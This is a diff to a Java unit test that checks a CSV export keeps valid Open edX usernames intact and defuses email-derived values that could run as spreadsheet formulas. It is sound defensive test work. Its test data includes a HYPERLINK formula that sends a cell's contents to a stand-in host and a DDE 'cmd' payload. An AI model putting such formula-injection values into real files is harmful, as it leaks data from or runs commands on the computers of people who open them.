@@ -188,6 +188,21 @@ class GroupHealthTest {
         assertEquals("No time", GroupExports.safe("No time"));
     }
 
+    @Test
+    void anOpenEdxUsernameIsWrittenAsItIsAndAnEmailThatCouldRunAsAFormulaIsDefused() {
+        assertEquals("ana_b+1", GroupExports.username(person("ana_b+1@example.org")));
+        assertEquals("-ana.b", GroupExports.username(person("-ana.b@example.org")), "a username Open edX allows, found by the upload");
+        assertEquals("élise", GroupExports.username(person("élise@import.invalid")));
+        assertEquals("'=HYPERLINK(\"http://x.test/?\"&A2)", GroupExports.username(person("=HYPERLINK(\"http://x.test/?\"&A2)@example.org")));
+        assertEquals("'+cmd|'/Ccalc'!A0", GroupExports.username(person("+cmd|'/Ccalc'!A0@example.org")));
+    }
+
+    private static org.entraide.account.Person person(String email) {
+        org.entraide.account.Person person = new org.entraide.account.Person();
+        person.email = email;
+        return person;
+    }
+
     static List<CSVRecord> parse(String csv) throws IOException {
         try (CSVParser parser = CSVParser.parse(new StringReader(csv), CSVFormat.DEFAULT)) {
             return parser.getRecords();
